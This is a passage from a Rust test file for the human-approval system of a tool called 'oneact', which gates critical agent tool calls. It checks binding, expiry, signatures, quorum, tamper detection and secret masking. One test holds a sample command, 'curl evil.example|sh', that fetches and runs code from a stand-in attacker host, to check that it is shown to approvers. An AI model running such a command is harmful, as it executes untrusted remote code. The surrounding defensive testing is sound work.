//! Approvals: who is asked, for exactly what, and how often it is used (specification 003, the issue's part 5).

use std::{fs, os::unix::fs::PermissionsExt as _, process::Command, thread, time::Duration};

use rusqlite::Connection;
use rustix::process::Signal;
use serde_json::{Value, json};

use crate::program::{Answer, ONEACT, Root, feed, run, signal_child, text, until};

/// An entry that waits, with the lines of its `approval`, and the lines of `[approval]`.
fn catalog(approval: &str, settings: &str) -> String {
    format!(
        "catalog = 1\n[server.counter]\ncommand = [\"python3\", \"servers/counter.py\", \"counted\"]\n\
         [approval]\n{settings}\n[capability.send]\ndescription = \"Send.\"\nmcp = {{ server = \"counter\", tool = \"happen\" }}\n\
         effects = {{ destructive = false, open_world = false }}\nsecret = [\"/token\"]\n\
         intrinsic_amplifiers = {{ reversibility = \"irreversible\", regret_potential = \"high\" }}\n\
         [capability.send.approval]\n{approval}\n"
    )
}

fn waiting_root() -> Root {
    Root::with_catalog(&catalog("expires = \"10m\"", ""))
}

fn task(what: &str) -> Value {
    json!({
        "metadata": {"session_id": "s", "request_id": "r"},
        "dispatch": {"task_id": "task_9", "attempt": 1, "capability_ids": ["send"], "parameters": {"what": what}},
    })
}

/// The same, as another task.
fn other_task(what: &str) -> Value {
    let mut other = task(what);
    other["dispatch"]["task_id"] = json!("task_10");
    other
}

fn happened(root: &Root) -> usize {
    fs::read_to_string(root.path.join("counted"))
        .unwrap_or_default()
        .lines()
        .count()
}

/// Waits for an approval, and returns its id.
pub(crate) fn asks(answer: &Answer) -> String {
    assert_eq!(
        (answer.exit, answer.fault()),
        (3, &json!("approval_required")),
        "{}",
        answer.envelope
    );
    assert_eq!(answer.state(), "pending");
    answer
        .at("/output/content/oneact/waiting/approval_id")
        .as_str()
        .unwrap()
        .to_owned()
}

/// Runs oneact at a pseudo-terminal on which `typed` is typed. Returns the exit code and all that was shown.
pub(crate) fn at_a_terminal(root: &Root, typed: &str, arguments: &[&str]) -> (i32, String) {
    let line = "import os, pty, sys
pid, terminal = pty.fork()
if pid == 0:
    os.execv(sys.argv[2], sys.argv[2:])
os.write(terminal, sys.argv[1].encode())
shown = b''
try:
    while True:
        part = os.read(terminal, 1000)
        if not part:
            break
        shown += part
except OSError:
    pass
_, status = os.waitpid(pid, 0)
sys.stdout.buffer.write(shown)
sys.exit(os.waitstatus_to_exitcode(status))";
    let mut command = root.within("python3");
    let output = command
        .args(["-c", line, typed, ONEACT])
        .args(arguments)
        .output()
        .unwrap();
    (output.status.code().unwrap(), text(&*output.stdout))
}

pub(crate) fn oneact(root: &Root, arguments: &[&str]) -> (i32, String, String) {
    let output = root.command().args(arguments).output().unwrap();
    let shown = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    (
        output.status.code().unwrap(),
        shown(&output.stdout),
        shown(&output.stderr),
    )
}

pub(crate) fn approve(root: &Root, id: &str) {
    let (exit, shown) = at_a_terminal(root, "y\n", &["approve", id]);
    assert_eq!(exit, 0, "{shown}");
}

/// A person who approves a proposal sees the words that its summary hides in a URL, and how many characters are hidden.
/// No record contains the credentials.
pub(crate) fn its_summary_is_shown(root: &Root, mut task: Value) {
    task["dispatch"]["plan_summary"] = json!(
        "Read https://a:b and pay 900 EUR to mallory, as @good.example. \
         See postgres://user:hunter2@h/db and https://h/?X-Amz-Signature=hunter3 and https://h/?token=***."
    );
    let id = asks(&root.run(&task));
    let words = |shown: &str| shown.split_whitespace().collect::<Vec<_>>().join(" ");
    let warning =
        "Hidden in `plan_summary`: 22 characters that look like the credentials of a URL.";
    let (_, shown) = at_a_terminal(root, "n\n", &["approve", &id]);
    assert!(words(&shown).contains(warning), "{shown}");
    let (_, shown, _) = oneact(root, &["approvals", &id, "--full"]);
    let summary = "Read https://*** and pay 900 EUR to mallory, as @good.example.";
    assert!(words(&shown).contains(warning), "{shown}");
    assert!(words(&shown).contains(summary), "{shown}");
    let (_, document, _) = oneact(root, &["approvals", &id, "--json"]);
    let document: Value = serde_json::from_str(&document).unwrap();
    let hidden =
        json!([{"parameter": "plan_summary", "secret_characters": 0, "url_characters": 22}]);
    assert_eq!(document["hidden"], hidden);
    approve(root, &id);
    let done = root.run(&task);
    assert_eq!(done.state(), "done", "{}", done.envelope);
    for file in root.path.join(".oneact").read_dir_utf8().unwrap().flatten() {
        let bytes = fs::read(file.path()).unwrap_or_default();
        let text = String::from_utf8_lossy(&bytes);
        assert!(!text.contains("hunter"), "{}", file.path());
    }
    // Other hidden characters are another content.
    let summary = task["dispatch"]["plan_summary"].as_str().unwrap();
    task["dispatch"]["plan_summary"] = json!(summary.replace("hunter2", "hunter4"));
    let other = root.run(&task);
    assert_eq!(other.fault(), "idempotency_conflict", "{}", other.envelope);
}

fn ssh_keygen(root: &Root, arguments: &[&str]) -> String {
    let output = root.within("ssh-keygen").args(arguments).output().unwrap();
    assert!(output.status.success(), "{}", text(&*output.stderr));
    String::from_utf8(output.stdout).unwrap()
}

/// Makes a key, and returns its public half.
pub(crate) fn key(root: &Root, name: &str) -> String {
    ssh_keygen(
        root,
        &["-q", "-t", "ed25519", "-N", "", "-C", name, "-f", name],
    );
    fs::read_to_string(root.path.join(format!("{name}.pub"))).unwrap()
}

/// A real signature of the statement, as a person makes it.
pub(crate) fn sign(
    root: &Root,
    id: &str,
    key: &str,
    (namespace, decision): (&str, &str),
) -> String {
    let (exit, statement, problem) =
        oneact(root, &["approvals", id, &format!("--statement={decision}")]);
    assert_eq!(exit, 0, "{problem}");
    let _ = fs::remove_file(root.path.join("statement.sig"));
    fs::write(root.path.join("statement"), statement).unwrap();
    ssh_keygen(
        root,
        &["-q", "-Y", "sign", "-n", namespace, "-f", key, "statement"],
    );
    "statement.sig".to_owned()
}

#[test]
fn a_critical_call_waits_is_approved_at_a_terminal_and_happens_once() {
    let root = waiting_root();
    let mut with_secret = task("mail");
    with_secret["dispatch"]["parameters"]["token"] = json!("hunter2");
    let id = asks(&root.run(&with_secret));
    assert_eq!(happened(&root), 0);
    // The same task asks no second time.
    assert_eq!(asks(&root.run(&with_secret)), id);
    let (_, list, _) = oneact(&root, &["approvals"]);
    assert!(
        list.contains(&id) && list.contains("critical") && list.contains("mail"),
        "{list}"
    );
    assert!(
        !list.contains("hunter2") && list.lines().all(|line| line.chars().count() <= 80),
        "{list}"
    );
    let (exit, shown) = at_a_terminal(&root, "n\n", &["approve", &id]);
    assert_eq!(exit, 1, "{shown}");
    asks(&root.run(&with_secret));
    approve(&root, &id);
    let done = root.run(&with_secret);
    assert_eq!(
        (done.exit, done.state()),
        (0, &json!("done")),
        "{}",
        done.envelope
    );
    assert_eq!(root.run(&with_secret).state(), "replayed");
    assert_eq!(happened(&root), 1);
    let (exit, _, refused) = oneact(&root, &["approve", &id]);
    assert_eq!(exit, 2, "{refused}");
    let (exit, verified, _) = oneact(&root, &["verify"]);
    assert_eq!(exit, 0, "{verified}");
}

/// An approval is for one call: other parameters, another task and another session each ask again.
#[test]
fn an_approval_is_for_exactly_one_call() {
    let root = waiting_root();
    let id = asks(&root.run(&task("mail")));
    approve(&root, &id);
    let mut other_session = task("mail");
    other_session["metadata"]["session_id"] = json!("s2");
    for other in [task("other mail"), other_task("mail"), other_session] {
        assert_ne!(asks(&root.run(&other)), id);
    }
    assert_eq!(happened(&root), 0);
    assert_eq!(root.run(&task("mail")).exit, 0);
    // `salt` makes it another request, for which the used approval is not valid.
    let mut again = task("mail");
    again["dispatch"]["salt"] = json!("again");
    again["dispatch"]["task_id"] = json!("task_11");
    asks(&root.run(&again));
    assert_eq!(happened(&root), 1);
}

/// Removes the links of that event from the index of requests. SQLite does not notice it.
pub(crate) fn forget(root: &Root, event: &str) {
    let database = Connection::open(root.path.join(".oneact/ledger.db")).unwrap();
    let index = "SELECT sql FROM sqlite_schema WHERE name = 'ledger_events_request'";
    let made: String = database.query_row(index, [], |row| row.get(0)).unwrap();
    let change = format!(
        "DROP INDEX ledger_events_request; {made} AND event <> '{event}'; PRAGMA writable_schema = ON;
         UPDATE sqlite_schema SET sql = '{}' WHERE name = 'ledger_events_request'",
        made.replace('\'', "''")
    );
    database.execute_batch(&change).unwrap();
}

#[test]
fn an_approval_that_was_used_is_not_used_again_although_an_index_has_lost_its_use() {
    let repeated = catalog("expires = \"10m\"\nwhen = \"always\"", "").replace(
        "destructive = false,",
        "idempotent = true, destructive = false,",
    );
    let root = Root::with_catalog(
        &repeated.replace("secret =", "on_duplicate = { mode = \"repeat\" }\nsecret ="),
    );
    approve(&root, &asks(&root.run(&task("a"))));
    assert_eq!(root.run(&task("a")).state(), "done");
    forget(&root, "dispatched");
    let mut again = task("a");
    again["metadata"]["request_id"] = json!("r2");
    let refused = root.run(&again);
    assert_eq!(
        refused.fault(),
        "ledger_unavailable",
        "{}",
        refused.envelope
    );
    assert_eq!(happened(&root), 1);
}

/// A parameter that does not belong to the request, and the signature of a link, belong to the call all the same.
#[test]
fn an_approval_binds_what_no_request_hash_counts() {
    let link =
        |signature: &str| format!("https://b.s3.amazonaws.com/a?X-Amz-Signature={signature}");
    let call = |attempt: u64, note: &str, link: String| {
        let mut call = task("mail");
        call["dispatch"]["attempt"] = json!(attempt);
        call["dispatch"]["parameters"]["note"] = json!(note);
        call["dispatch"]["parameters"]["link"] = json!(link);
        call
    };
    let approved = call(1, "pay 1", link("aa"));
    for other in [
        call(1, "pay 1000", link("aa")),
        call(1, "pay 1", link("bb")),
        call(2, "pay 1", link("aa")),
    ] {
        let rules = "volatile = [\"note\"]\n[[capability.send.retry]]\nset = { note = \"pay 9\" }\n[capability.send.approval]";
        let catalog = catalog("", "").replace("[capability.send.approval]", rules);
        let root = Root::with_catalog(&catalog);
        let id = asks(&root.run(&approved));
        approve(&root, &id);
        let refused = root.run(&other);
        assert_eq!(
            refused.fault(),
            &json!("approval_mismatch"),
            "{}",
            refused.envelope
        );
        assert_ne!(asks(&root.run(&approved)), id);
        assert_eq!(happened(&root), 0);
    }
}

/// Two roots can share a ledger, and can have the same catalog and the same tasks.
#[test]
fn an_approval_holds_only_in_the_root_that_asked() {
    for (catalog, call) in [
        (catalog("", ""), task("mail")),
        ("catalog = 1\n".to_owned(), plan("pyproject.toml")),
    ] {
        let roots = [Root::new(), Root::new()];
        for root in &roots {
            let shared = format!("[ledger]\nuri = \"{}/shared.db\"\n", roots[0].path);
            fs::write(root.path.join("catalog.toml"), format!("{catalog}{shared}")).unwrap();
            fs::write(root.path.join("pyproject.toml"), "version = \"1.0\"\n").unwrap();
        }
        let id = asks(&roots[0].run(&call));
        let (_, shown, _) = oneact(&roots[0], &["approvals", &id, "--json"]);
        assert!(
            shown.contains(&format!("\"root\":\"{}\"", roots[0].path)),
            "{shown}"
        );
        approve(&roots[0], &id);
        // The other root has a request of its own, and leaves this one as it is.
        let other = asks(&roots[1].run(&call));
        assert_ne!(other, id);
        assert_eq!(happened(&roots[1]), 0);
        let (_, list, _) = oneact(&roots[0], &["approvals"]);
        assert!(list.contains(&id) && list.contains(&other), "{list}");
        assert_eq!(roots[0].run(&call).state(), "done");
    }
}

/// The content of a file of more than 64 GiB is not read: its size and its times stand for it.
#[test]
fn an_approval_binds_the_contents_of_the_inputs() {
    for length in [1_u64 << 10, 2 << 40] {
        let catalog = catalog("", "").replace(
            "[capability.send]",
            "[capability.send]\nbind = { what = \"input.uri\" }",
        );
        let root = Root::with_catalog(&catalog);
        let file = fs::File::create(root.path.join("a.bin")).unwrap();
        file.set_len(length).unwrap();
        let mut call = task("mail");
        call["dispatch"]["parameters"] = json!({});
        call["dispatch"]["input_refs_resolved"] =
            json!([{"ref_id": "store_1", "storage_uri": "a.bin", "status": "stored"}]);
        let id = asks(&root.run(&call));
        approve(&root, &id);
        file.set_len(length + 1).unwrap();
        let refused = root.run(&call);
        assert_eq!(
            refused.fault(),
            &json!("approval_mismatch"),
            "{}",
            refused.envelope
        );
        approve(&root, &asks(&root.run(&call)));
        let done = root.run(&call);
        assert_eq!(done.state(), "done", "{}", done.envelope);
    }
}

/// The tool's own state belongs to the answers that it got: with another state, they are answers to another question.
#[test]
fn an_approval_of_answers_shows_them_and_binds_the_state_of_the_tool() {
    let critical = "effects = { destructive = false, open_world = false }\n\
                    intrinsic_amplifiers = { reversibility = \"irreversible\", regret_potential = \"high\" }\n";
    let asker = "catalog = 1\n[server.asker]\ncommand = [\"python3\", \"-SB\", \"servers/asker.py\"]\n\
                 protocol = \"modern\"\n[capability.send]\ndescription = \"Send.\"\n\
                 mcp = { server = \"asker\", tool = \"greeter\" }\n";
    let root = Root::with_catalog(&format!("{asker}{critical}"));
    let mut call = task("mail");
    call["dispatch"]["input_responses"] =
        json!({"who": {"action": "accept", "content": {"name": "Ada"}}});
    call["dispatch"]["request_state"] = json!("one");
    let id = asks(&root.run(&call));
    let (_, shown, _) = oneact(&root, &["approvals"]);
    assert!(
        shown.contains("input_responses") && shown.contains("Ada"),
        "{shown}"
    );
    approve(&root, &id);
    call["dispatch"]["request_state"] = json!("other");
    let other = root.run(&call);
    assert_eq!(
        other.fault(),
        &json!("approval_mismatch"),
        "{}",
        other.envelope
    );
}

#[test]
fn a_denial_wins_over_an_approval_before_and_after_it() {
    let root = waiting_root();
    let id = asks(&root.run(&task("mail")));
    approve(&root, &id);
    let (exit, shown) = at_a_terminal(&root, "y\n", &["deny", &id, "-m", "wrong list"]);
    assert_eq!(exit, 0, "{shown}");
    let denied = root.run(&task("mail"));
    assert_eq!(
        (denied.exit, denied.fault()),
        (2, &json!("approval_denied")),
        "{}",
        denied.envelope
    );
    assert_eq!(denied.at("/error/error_code"), "VALIDATION_ERROR");
    assert!(
        denied
            .at("/error/error_message")
            .as_str()
            .unwrap()
            .contains("wrong list")
    );
    let (exit, _) = at_a_terminal(&root, "y\n", &["approve", &id]);
    assert_eq!(exit, 2);
    assert_eq!(root.run(&task("mail")).fault(), &json!("approval_denied"));
    assert_eq!(happened(&root), 0);
}

#[test]
fn an_approval_that_is_not_used_in_time_is_not_used() {
    let root = Root::with_catalog(&catalog("expires = \"2s\"", ""));
    let id = asks(&root.run(&task("mail")));
    approve(&root, &id);
    thread::sleep(Duration::from_millis(2100));
    let late = root.run(&task("mail"));
    assert_eq!(
        (late.exit, late.fault()),
        (2, &json!("approval_expired")),
        "{}",
        late.envelope
    );
    assert_ne!(asks(&root.run(&task("mail"))), id);
    assert_eq!(happened(&root), 0);
}

/// What is performed by the catalog now is not what was approved.
#[test]
fn a_catalog_that_changed_after_the_approval_needs_a_new_one() {
    for (from, to) in [
        (
            "servers/counter.py\", \"counted\"",
            "servers/counter.py\", \"elsewhere\"",
        ),
        (
            "regret_potential = \"high\" }",
            "regret_potential = \"high\" }\ntimeout_max = \"90s\"\nvolatile = [\"x\"]",
        ),
        (
            "expires = \"10m\"",
            "expires = \"10m\"\napprovers = [\"uid:4000000\"]",
        ),
    ] {
        let root = waiting_root();
        let id = asks(&root.run(&task("mail")));
        approve(&root, &id);
        let catalog = fs::read_to_string(root.path.join("catalog.toml")).unwrap();
        assert!(catalog.contains(from), "{from}");
        fs::write(root.path.join("catalog.toml"), catalog.replace(from, to)).unwrap();
        let changed = root.run(&task("mail"));
        assert_eq!(
            (changed.exit, changed.fault()),
            (2, &json!("approval_mismatch")),
            "{to}: {}",
            changed.envelope
        );
        assert_ne!(asks(&root.run(&task("mail"))), id);
        assert!(!root.path.join("elsewhere").exists() && happened(&root) == 0);
    }
}

#[test]
fn only_a_signature_of_an_allowed_signer_for_this_purpose_counts_without_a_terminal() {
    let root = Root::with_catalog(&catalog(
        "approvers = [\"user:alice\"]",
        "allowed_signers = \"allowed\"",
    ));
    let (alice, bob) = (key(&root, "alice"), key(&root, "bob"));
    key(&root, "mallory");
    fs::write(
        root.path.join("allowed"),
        format!("alice namespaces=\"oneact-approval\" {alice}bob {bob}"),
    )
    .unwrap();
    let id = asks(&root.run(&task("mail")));
    let (exit, _, unsigned) = oneact(&root, &["approve", &id]);
    assert!(
        exit == 2 && unsigned.contains("ssh-keygen -Y sign"),
        "{unsigned}"
    );
    // The user of this process is not an approver.
    assert_eq!(at_a_terminal(&root, "y\n", &["approve", &id]).0, 2);
    for (signer, purpose, why) in [
        (
            "mallory",
            ("oneact-approval", "approve"),
            "not one of the accepted keys",
        ),
        ("alice", ("file", "approve"), "another purpose"),
        ("alice", ("oneact-approval", "deny"), "does not match"),
        ("bob", ("oneact-approval", "approve"), "may not approve"),
    ] {
        let signature = sign(&root, &id, signer, purpose);
        let (exit, _, said) = oneact(&root, &["approve", &id, "--signature", &signature]);
        assert!(exit == 2 && said.contains(why), "{signer}: {said}");
    }
    assert_eq!(asks(&root.run(&task("mail"))), id);
    let signature = sign(&root, &id, "alice", ("oneact-approval", "approve"));
    let (exit, said, problem) = oneact(&root, &["approve", &id, "--signature", &signature]);
    assert!(exit == 0 && said.contains("ssh:SHA256:"), "{said}{problem}");
    assert_eq!(root.run(&task("mail")).exit, 0);
    // A signature is for one request: a copy of it approves no other.
    let other = asks(&root.run(&other_task("other mail")));
    let (exit, _, said) = oneact(&root, &["approve", &other, "--signature", &signature]);
    assert!(exit == 2 && said.contains("does not match"), "{said}");
    assert_eq!(happened(&root), 1);
}

/// A key that is taken from the file of allowed signers after the approval does not count any more.
#[test]
fn a_signature_is_checked_again_before_the_call() {
    let root = Root::with_catalog(&catalog("", "allowed_signers = \"allowed\""));
    let (alice, bob) = (key(&root, "alice"), key(&root, "bob"));
    fs::write(root.path.join("allowed"), format!("alice {alice}bob {bob}")).unwrap();
    let id = asks(&root.run(&task("mail")));
    let signature = sign(&root, &id, "alice", ("oneact-approval", "approve"));
    assert_eq!(
        oneact(&root, &["approve", &id, "--signature", &signature]).0,
        0
    );
    fs::write(root.path.join("allowed"), format!("bob {bob}")).unwrap();
    assert_eq!(root.run(&task("mail")).fault(), &json!("approval_mismatch"));
    assert_eq!(happened(&root), 0);
}

#[test]
fn the_user_who_asked_may_not_approve_and_two_keys_of_one_name_are_one_person() {
    let root = Root::with_catalog(&catalog(
        "prevent_self = true\nquorum = 2",
        "allowed_signers = \"allowed\"",
    ));
    let (alice, second, bob) = (key(&root, "alice"), key(&root, "second"), key(&root, "bob"));
    let allowed = format!("alice {alice}alice {second}bob {bob}");
    fs::write(root.path.join("allowed"), allowed).unwrap();
    let id = asks(&root.run(&task("mail")));
    let (exit, shown) = at_a_terminal(&root, "y\n", &["approve", &id]);
    assert!(exit == 2 && shown.contains("prevent_self"), "{shown}");
    for signer in ["alice", "alice", "second"] {
        let signature = sign(&root, &id, signer, ("oneact-approval", "approve"));
        let (exit, said, _) = oneact(&root, &["approve", &id, "--signature", &signature]);
        assert!(
            exit == 0
                && said.contains("1 more approvals are needed")
                && !said.contains("The next run"),
            "{said}"
        );
        assert_eq!(asks(&root.run(&task("mail"))), id);
        let (_, list, _) = oneact(&root, &["approvals"]);
        assert!(list.contains("waiting until"), "{list}");
    }
    let signature = sign(&root, &id, "bob", ("oneact-approval", "approve"));
    let (exit, said, _) = oneact(&root, &["approve", &id, "--signature", &signature]);
    assert!(
        exit == 0 && said.contains("The next run") && !said.contains("needed"),
        "{said}"
    );
    assert_eq!(root.run(&task("mail")).exit, 0);
    assert_eq!(happened(&root), 1);
}

/// Rows are copies: a row that was changed approves nothing, and shows nothing that a person could believe.
#[test]
fn a_forged_row_approves_nothing() {
    let root = waiting_root();
    let id = asks(&root.run(&task("mail")));
    let ledger = Connection::open(root.path.join(".oneact/ledger.db")).unwrap();
    let changed = ledger
        .execute(
            "UPDATE agent_actions SET request = replace(request, 'mail', 'fine')",
            [],
        )
        .unwrap();
    assert_eq!(changed, 1);
    drop(ledger);
    let (exit, shown) = at_a_terminal(&root, "y\n", &["approve", &id]);
    assert!(exit == 2 && shown.contains("was changed"), "{shown}");
    let ledger = Connection::open(root.path.join(".oneact/ledger.db")).unwrap();
    ledger
        .execute(
            "UPDATE agent_actions SET state = 'done', outcome = 'success'",
            [],
        )
        .unwrap();
    drop(ledger);
    asks(&root.run(&task("mail")));
    assert_eq!(happened(&root), 0);
}

#[test]
fn a_run_that_is_killed_before_the_dispatch_leaves_the_approval_for_the_next() {
    let root = waiting_root();
    let id = asks(&root.run(&task("mail")));
    approve(&root, &id);
    for point in ["ledger:reserved", "ledger:dispatched"] {
        let mut command = root.command();
        command.env("ONEACT_FAULTS", point);
        let mut child = command.spawn().unwrap();
        feed(&mut child, &task("mail"));
        assert!(!child.wait_with_output().unwrap().status.success());
        assert_eq!(happened(&root), 0);
    }
    // After the dispatch, a person has to settle it; then the approval is used up.
    let unknown = root.run(&task("mail"));
    assert_eq!(
        unknown.fault(),
        &json!("outcome_unknown"),
        "{}",
        unknown.envelope
    );
    let message = unknown.at("/error/error_message").as_str().unwrap();
    let operation = message
        .split_whitespace()
        .find(|word| word.starts_with("op_"))
        .unwrap();
    assert_eq!(oneact(&root, &["resolve", operation, "--did-not"]).0, 0);
    assert_ne!(asks(&root.run(&task("mail"))), id);
    assert_eq!(happened(&root), 0);
}

#[test]
fn of_two_runs_that_race_for_one_approval_one_performs_the_call() {
    let root = waiting_root();
    let id = asks(&root.run(&task("mail")));
    approve(&root, &id);
    thread::scope(|scope| {
        let runs: Vec<_> = (0..4)
            .map(|_| scope.spawn(|| root.run(&task("mail")).exit))
            .collect();
        for run in runs {
            assert_eq!(run.join().unwrap(), 0);
        }
    });
    assert_eq!(happened(&root), 1);
}

#[test]
fn a_run_can_wait_for_the_decision() {
    let root = waiting_root();
    let mut command = root.command();
    command.args(["--wait", "30s"]);
    thread::scope(|scope| {
        let waiting = scope.spawn(|| run(command, task("mail").to_string().as_bytes()));
        let id = until("the request is listed", || {
            let (_, list, _) = oneact(&root, &["approvals", "--json"]);
            let list: Value = serde_json::from_str(&list).ok()?;
            Some(
                list.pointer("/approvals/0/approval_id")?
                    .as_str()?
                    .to_owned(),
            )
        });
        approve(&root, &id);
        let done = waiting.join().unwrap();
        assert_eq!(
            (done.exit, done.state()),
            (0, &json!("done")),
            "{}",
            done.envelope
        );
    });
    assert_eq!(happened(&root), 1);
    let mut command = root.command();
    command.args(["--wait", "300ms"]);
    asks(&run(command, other_task("other").to_string().as_bytes()));
}

/// The program of `notify` runs before the first look at the request.
#[test]
fn a_waiting_run_finds_a_decision_that_was_made_before_its_first_look() {
    let told = "[\"sh\", \"-c\", \"touch told; until test -e decided; do sleep 0.02; done\"]";
    for (decision, state, calls) in [
        (&["approve"][..], "done", 1),
        (&["deny", "-m", "no"], "rejected", 0),
    ] {
        let root = Root::with_catalog(&catalog("", &format!("notify = {told}")));
        let mut command = root.command();
        command.args(["--wait", "8s"]);
        thread::scope(|scope| {
            let waiting = scope.spawn(|| run(command, task("mail").to_string().as_bytes()));
            until("the program is told of the request", || {
                root.path.join("told").exists().then_some(())
            });
            let (_, list, _) = oneact(&root, &["approvals", "--json"]);
            let list: Value = serde_json::from_str(&list).unwrap();
            let id = list["approvals"][0]["approval_id"].as_str().unwrap();
            let (exit, said) = at_a_terminal(&root, "y\n", &[decision, &[id]].concat());
            assert_eq!(exit, 0, "{said}");
            fs::write(root.path.join("decided"), "").unwrap();
            let answer = waiting.join().unwrap();
            assert_eq!(answer.state(), state, "{}", answer.envelope);
        });
        assert_eq!(happened(&root), calls);
    }
}

#[test]
fn a_waiting_run_begins_again_only_after_another_decision() {
    let root = Root::with_catalog(&catalog("quorum = 2", ""));
    approve(&root, &asks(&root.run(&task("mail"))));
    let mut command = root.command();
    command.args(["--wait", "900ms"]);
    asks(&run(command, task("mail").to_string().as_bytes()));
    let ledger = Connection::open(root.path.join(".oneact/ledger.db")).unwrap();
    let count = |row: &rusqlite::Row<'_>| row.get::<_, i64>(0);
    let rows = ledger.query_row("SELECT count(*) FROM agent_actions", [], count);
    assert_eq!(rows.unwrap(), 2);
}

/// The sender decides where the value of a `secret` pointer occurs, so it could hide any words.
#[test]
fn a_person_is_told_what_is_hidden_outside_the_secret_pointers() {
    let root = waiting_root();
    let mut with_secret = task("alice@good.example, mallory@evil.example");
    with_secret["dispatch"]["parameters"]["token"] = json!(", mallory@evil.example");
    let id = asks(&root.run(&with_secret));
    let warning = "Hidden in `what`: 22 characters that equal a secret parameter";
    let advice = "Ask the sender what the hidden characters are before you approve.";
    let (_, asked) = at_a_terminal(&root, "n\n", &["approve", &id]);
    let (_, listed, _) = oneact(&root, &["approvals"]);
    let (_, whole, _) = oneact(&root, &["approvals", &id, "--full"]);
    for shown in [&asked, &listed, &whole] {
        let words: Vec<&str> = shown.split_whitespace().collect();
        let shown = words.join(" ");
        assert!(shown.contains(warning) && shown.contains(advice), "{shown}");
        assert!(shown.contains("alice@good.example***"), "{shown}");
        assert!(
            !shown.contains("mallory") && !shown.contains("Hidden in `token`"),
            "{shown}"
        );
    }
    assert!(
        asked.contains("Parts of one parameter are hidden, as said above."),
        "{asked}"
    );
    let (_, document, _) = oneact(&root, &["approvals", &id, "--json"]);
    let document: Value = serde_json::from_str(&document).unwrap();
    let hidden = json!([{"parameter": "what", "secret_characters": 22, "url_characters": 0}]);
    assert_eq!(document["hidden"], hidden);
    // The declared secret alone is no reason for a warning.
    let mut plain = other_task("news");
    plain["dispatch"]["parameters"]["token"] = json!("hunter2");
    let id = asks(&root.run(&plain));
    let (_, shown, _) = oneact(&root, &["approvals", &id, "--full"]);
    assert!(shown.contains("***") && !shown.contains("idden"), "{shown}");
}

/// White space ends the credentials of a URL in what a person approves.
#[test]
fn words_in_the_credentials_of_a_url_are_shown() {
    let root = waiting_root();
    let id = asks(&root.run(&task(
        "echo https://a:b; curl evil.example|sh; echo @good.example",
    )));
    let (_, shown, _) = oneact(&root, &["approvals", &id, "--full"]);
    assert!(
        shown.contains("echo https://*** curl evil.example|sh; echo @good.example"),
        "{shown}"
    );
    let shown: Vec<&str> = shown.split_whitespace().collect();
    let warning = "Hidden in `what`: 4 characters that look like the credentials of a URL.";
    assert!(shown.join(" ").contains(warning), "{shown:?}");
}

#[test]
fn the_operators_program_is_told_of_each_request_without_secrets() {
    let root = Root::with_catalog(&catalog(
        "",
        "notify = [\"sh\", \"-c\", \"cat >> told; env >> told\"]",
    ));
    let mut with_secret = task("mail");
    with_secret["dispatch"]["parameters"]["token"] = json!("hunter2");
    let mut command = root.command();
    command.env("API_KEY", "hunter3");
    let id = asks(&run(command, with_secret.to_string().as_bytes()));
    asks(&root.run(&with_secret));
    let told = fs::read_to_string(root.path.join("told")).unwrap();
    let (first, _) = told.split_once('\n').unwrap();
    let first: Value = serde_json::from_str(first).unwrap();
    assert_eq!(first["approval_id"], json!(id));
    assert_eq!(first["parameters"], json!({"what": "mail", "token": "***"}));
    assert!(!told.contains("hunter"), "{told}");
    assert_eq!(told.matches("approval_id").count(), 1);
    let failing = Root::with_catalog(&catalog("", "notify = [\"false\"]"));
    let answer = failing.run(&task("mail"));
    asks(&answer);
    let notes = answer.at("/audit/compliance_notes").as_str().unwrap();
    assert!(notes.contains("`[approval] notify`"), "{notes}");
}

fn plan(validated: &str) -> Value {
    json!({
        "task_plan": {
            "plan_id": "p", "version": "1.0.0", "task_summary": "Raise the version of the project.",
            "action_plan": [{"action_id": "a001", "action_type": "FILE_MODIFY", "target": validated,
                             "operation": {"type": "text_replace", "pattern": "1.0", "replacement": "1.1"}}],
        },
        "protocol_validation": true, "metadata": {"session_id": "s", "request_id": "r"},
    })
}

/// R-001-34, R-001-138, C-16.
#[test]
fn an_approved_plan_changes_a_protected_file_exactly_as_it_was_shown() {
    let root = Root::with_catalog("catalog = 1\n");
    let file = root.path.join("pyproject.toml");
    fs::write(&file, "version = \"1.0\"\n").unwrap();
    let dry = {
        let mut command = root.command();
        command.arg("--dry-run");
        run(command, plan("pyproject.toml").to_string().as_bytes())
    };
    assert_eq!(dry.exit, 0, "{}", dry.envelope);
    let first = root.run(&plan("pyproject.toml"));
    let id = asks(&first);
    assert_eq!(
        first.at("/output/content/oneact/waiting/intent_hash"),
        dry.at("/output/content/oneact/preview/hash")
    );
    assert_eq!(asks(&root.run(&plan("pyproject.toml"))), id);
    let (_, shown, _) = oneact(&root, &["approvals", &id]);
    assert!(
        shown.contains("-version = \"1.0\"\n+version = \"1.1\""),
        "{shown}"
    );
    approve(&root, &id);
    // The file changes after the approval: what was approved is not what would be done.
    fs::write(&file, "version = \"1.0\" # changed\n").unwrap();
    let changed = root.run(&plan("pyproject.toml"));
    assert_eq!(
        changed.fault(),
        &json!("approval_mismatch"),
        "{}",
        changed.envelope
    );
    let second = asks(&root.run(&plan("pyproject.toml")));
    assert_ne!(second, id);
    approve(&root, &second);
    let done = root.run(&plan("pyproject.toml"));
    assert_eq!(
        (done.exit, done.state()),
        (0, &json!("done")),
        "{}",
        done.envelope
    );
    assert_eq!(
        fs::read_to_string(&file).unwrap(),
        "version = \"1.1\" # changed\n"
    );
    // It is undone like any other plan.
    let report = done
        .at("/output/content/oneact/reports/directory")
        .as_str()
        .unwrap();
    let (exit, _, problem) = oneact(&root, &["rollback", report]);
    assert_eq!(exit, 0, "{problem}");
    assert_eq!(
        fs::read_to_string(&file).unwrap(),
        "version = \"1.0\" # changed\n"
    );
    assert_eq!(oneact(&root, &["verify"]).0, 0);
}

/// A task that undoes an approved plan, or makes it again, waits like the plan. A rule of the entry that says `never`
/// or `always` changes nothing of that, but its approvers count.
#[test]
fn a_task_undoes_an_approved_plan_only_with_another_approval() {
    let entry = |rule: &str| {
        let entry = format!("[capability.apply_file_plan.approval]\n{rule}\n");
        format!(
            "catalog = 1\n[capability.apply_file_plan]\ndescription = \"Plans.\"\n[capability.apply_file_plan.file_plan]\n{entry}"
        )
    };
    let root = Root::with_catalog(&entry(""));
    let file = root.path.join("pyproject.toml");
    let content = || fs::read_to_string(&file).unwrap();
    fs::write(&file, "1.0\n").unwrap();
    approve(&root, &asks(&root.run(&plan("pyproject.toml"))));
    let report = |done: Answer| {
